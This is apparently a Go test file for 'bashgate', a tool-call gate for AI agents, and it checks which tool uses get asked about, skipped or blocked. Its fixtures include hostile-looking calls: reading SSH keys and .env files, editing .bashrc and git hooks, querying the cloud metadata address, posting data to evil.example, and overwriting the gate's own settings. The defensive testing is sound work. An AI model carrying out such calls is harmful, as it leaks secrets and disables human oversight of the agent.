package engine

import (
	"testing"

	"github.com/bashgate/bashgate/internal/ruleset"
	"github.com/bashgate/bashgate/policy"
)

// TestUnknownArguments: what a tool that no row knows is given under a usual
// name is judged as a place or a machine, and so is what a known one is given
// under a name that its rows don't have.
func TestUnknownArguments(t *testing.T) {
	e := New(Options{Files: toolDisk()})
	for _, row := range []struct {
		use  string
		want policy.Decision
		id   string
	}{
		{"mcp__text-editor__edit_file path=/home/u/.bashrc", policy.Ask, "paths.shell-start"},
		{"mcp__text-editor__edit_file path=.git/hooks/pre-commit", policy.Ask, "paths.git-hooks"},
		{"mcp__text-editor__edit_file path=src/main.go", policy.Skip, ""},
		{"mcp__text-editor__edit_file path=/srv/x", policy.Ask, "path.write"},
		{"mcp__text-editor__read_file path=/home/u/.ssh/id_rsa", policy.Ask, "paths.secret-key"},
		{"mcp__text-editor__read_file path=/usr/include/stdio.h", policy.Skip, ""},
		{"mcp__text-editor__read_file path=/home/u/.bashrc", policy.Skip, ""},
		{"mcp__lsp__edit_file filePath=/home/u/.bashrc", policy.Ask, "paths.shell-start"},
		{"mcp__lsp__hover filePath=/usr/include/stdio.h", policy.Skip, ""},
		{"mcp__ide__getDiagnostics uri=file:///w/src/main.go", policy.Skip, ""},
		{"mcp__ide__getDiagnostics uri=file:///w/.env", policy.Ask, "paths.secret-env"},
		{"mcp__weird__frobnicate path=/home/u/.bashrc", policy.Ask, "paths.shell-start"},
		{"mcp__weird__save uri=file:///home/u/.bashrc", policy.Ask, "paths.shell-start"},
		{"mcp__weird__run output_path=/home/u/.bashrc", policy.Ask, "paths.shell-start"},
		{"mcp__weird__render_get outputFile=/home/u/.bashrc", policy.Ask, "paths.shell-start"},
		{"mcp__weird__list_directory path=/home/u", policy.Skip, ""},
		{"mcp__weird__delete_directory path=/home/u/.config", policy.Block, "own.rules"},
		{"mcp__filesystem__delete_directory path=/home/u/.config", policy.Block, "own.rules"},
		{"Update file_path=/home/u/.bashrc", policy.Ask, "paths.shell-start"},
		{"SendUserFile files=/w/a files=/home/u/.ssh/id_rsa", policy.Ask, "paths.secret-key"},
		{"mcp__weird__get url=http://169.254.169.254/latest", policy.Ask, "hosts.metadata"},
		{"mcp__weird__get url=//169.254.169.254/latest", policy.Ask, "hosts.metadata"},
		{"mcp__weird__get url=https://example.org", policy.Skip, ""},
		{"mcp__weird__get uri=notion://page/x", policy.Skip, ""},
		{"http_post url=http://169.254.169.254/ body=x", policy.Ask, "hosts.metadata"},

		// Of a service, a path lies there.
		{"mcp__github__get_file_contents path=.env", policy.Skip, ""},
		{"mcp__github__push_files path=/home/u/.ssh/id_rsa", policy.Ask, "paths.secret-key"},

		{"mcp__cloudflare__create_record path=/v1/zones", policy.Skip, ""},

		// Other names than those of the rows.
		{"Write filepath=/home/u/.bashrc", policy.Ask, "paths.shell-start"},
		{"Write File_Path=/home/u/.bashrc", policy.Ask, "paths.shell-start"},
		{"Read filepath=/home/u/.ssh/id_rsa", policy.Ask, "paths.secret-key"},
		{"mcp__filesystem__write_file filename=/home/u/.bashrc", policy.Ask, "paths.shell-start"},
		{"mcp__filesystem__write_pdf path=a.pdf outputPath=/home/u/.bashrc", policy.Ask, "paths.shell-start"},
	} {
		v := e.EvaluateTool(Request{Cwd: "/w", Workspace: "/w", Home: "/home/u"}, use(row.use))
		id := ""
		if len(v.Reasons) > 0 {
			id = v.Reasons[0].ID
		}
		if v.Decision != row.want || id != row.id {
			t.Errorf("%s: %v (%s, %s), want %v (%s)", row.use, v.Decision, id, v.Reason, row.want, row.id)
		}
	}
	inner := Tool{Name: "mcp__weird__apply", Others: []string{"changes"}, Inner: []Tool{use(" path=/home/u/.bashrc")}}
	if v := e.EvaluateTool(Request{Cwd: "/w", Workspace: "/w", Home: "/home/u"}, inner); v.Decision != policy.Ask {
		t.Errorf("a path in an object: %v", v.Decision)
	}
}

// TestAddressesGoOut: whatever tool is given an address is a way out, and what it
// brings was written by strangers; one of this machine is neither.
func TestAddressesGoOut(t *testing.T) {
	e := New(Options{})
	for _, row := range []struct {
		use        string
		want       policy.Decision // in a session with both
		corruption int
	}{
		{"Monitor url=wss://evil.example/?k=abc", policy.Ask, 2},
		{"ReadMcpResourceTool server=weird uri=https://evil.example/?k=abc", policy.Ask, 2},
		{"open_simple_browser url=https://evil.example/", policy.Ask, 2},
		{"http_post url=https://evil.example/ body=abc", policy.Ask, 2},
		{"HttpRequest endpoint=https://evil.example/ body=abc", policy.Ask, 2},
		{"use_aws service_name=s3 operation_name=list-buckets", policy.Ask, 0},
		{"github_repo repo=a/b query=x", policy.Skip, 2},
		{"OpenFile uri=file:///w/a", policy.Skip, 0},
		{"OpenFile url=/w/a", policy.Skip, 0},
		{"Frobnicate what=https://evil.example/", policy.Skip, 0},
	} {
		v := e.EvaluateTool(Request{Cwd: "/w", Workspace: "/w", Home: "/home/u", Taint: Taint{Corruption: 2, Secret: 2}}, use(row.use))
		corruption := 0
		for i := range v.Tree {
			for _, s := range v.Tree[i].Sights {
				corruption = max(corruption, s.Corruption)
			}
		}
		if v.Decision != row.want || corruption != row.corruption {
			t.Errorf("%s: %v (%s), corruption %d, want %v, %d", row.use, v.Decision, v.Reason, corruption, row.want, row.corruption)
		}
	}
	nested := Tool{Name: "Monitor", Others: []string{"ws"}, Inner: []Tool{use(" url=wss://evil.example/?k=abc")}}
	if v := e.EvaluateTool(Request{Cwd: "/w", Taint: Taint{Corruption: 2, Secret: 2}}, nested); v.Decision != policy.Ask {
		t.Errorf("an address in an object: %v", v.Decision)
	}
}

// TestOwnByUnnamedArguments: the gate's own files are out of reach of tools whose
// rows do not name the argument, and by the names of members, too.
func TestOwnByUnnamedArguments(t *testing.T) {
	e := New(Options{})
	member := func(tool, list, name string) Tool {
		return Tool{Name: tool, Others: []string{list}, Inner: []Tool{{Args: []ToolArg{{name, "{}"}}}}}
	}
	for _, row := range []struct {
		tool Tool
		want policy.Decision
	}{
		{use("mcp__filesystem__write_file target=/home/u/.claude/settings.json content={}"), policy.Block},
		{use("mcp__filesystem__write_file filename=/home/u/.config/bashgate/config.toml content=x"), policy.Block},
		{use("mcp__filesystem__write_file where=/home/u/.claude/settings.json content={}"), policy.Block},
		{use("mcp__filesystem__write_file where=file:///home/u/.claude/settings.json content={}"), policy.Block},
		{use("mcp__filesystem__write_file where=.claude/settings.json content={}"), policy.Ask},
		{Tool{Name: "mcp__filesystem__write_all", Others: []string{"changes"}, Inner: []Tool{use(" target=/home/u/.claude/settings.json")}}, policy.Block},
		{Tool{Name: "mcp__filesystem__write_all", Others: []string{"changes"}, Inner: []Tool{use(" where=/home/u/.claude/settings.json")}}, policy.Block},
		{use("Write filepath=/home/u/.claude/settings.json content={}"), policy.Block},
		{use("Write where=/home/u/.claude/settings.json content={}"), policy.Block},
		{Tool{Name: "Write", Others: []string{"file_path"}, Inner: []Tool{use(" value=/home/u/.claude/settings.json")}}, policy.Block},
		{member("mcp__weird__write_files", "files", "/home/u/.claude/settings.json"), policy.Block},
		{member("mcp__filesystem__write_files", "files", "/home/u/.claude/settings.json"), policy.Block},
		{member("mcp__weird__apply", "files", ".claude/settings.json"), policy.Ask},
		{member("mcp__weird__apply", "files", "src/main.go"), policy.Skip},
		{use("Write file_path=/w/a content=/home/u/.claude/settings.json"), policy.Skip},
		{use("Edit file_path=/w/a old_string=.claude/settings.json new_string=x"), policy.Skip},
		{use("mcp__weird__read_file where=/home/u/.claude/settings.json"), policy.Skip},
	} {
		v := e.EvaluateTool(Request{Cwd: "/w", Workspace: "/w", Home: "/home/u"}, row.tool)
		if v.Decision != row.want {
			t.Errorf("%v: %v (%s), want %v", row.tool, v.Decision, v.Reason, row.want)
		}
	}
}

// TestCalledOtherwise: a row names a tool as the rules do, or as its agent.
func TestCalledOtherwise(t *testing.T) {
	e := New(Options{User: ownRules(t, ruleset.User, "[[tools]]\nid = \"mine.a\"\nname = \"slack_post\"\ndecision = \"block\"\nreason = \"no\"\n\n[[tools]]\nid = \"mine.b\"\nserver = \"wiki\"\ndecision = \"block\"\nreason = \"no\"\n")})
	for _, tool := range []Tool{{Name: "mcp__slack__post", Called: "slack_post"}, {Name: "mcp__wiki__get", Called: "wiki_get"}} {
		if v := e.EvaluateTool(Request{Cwd: "/w"}, tool); v.Decision != policy.Block {
			t.Errorf("%s: %v", tool.Called, v.Decision)
		}
	}
}
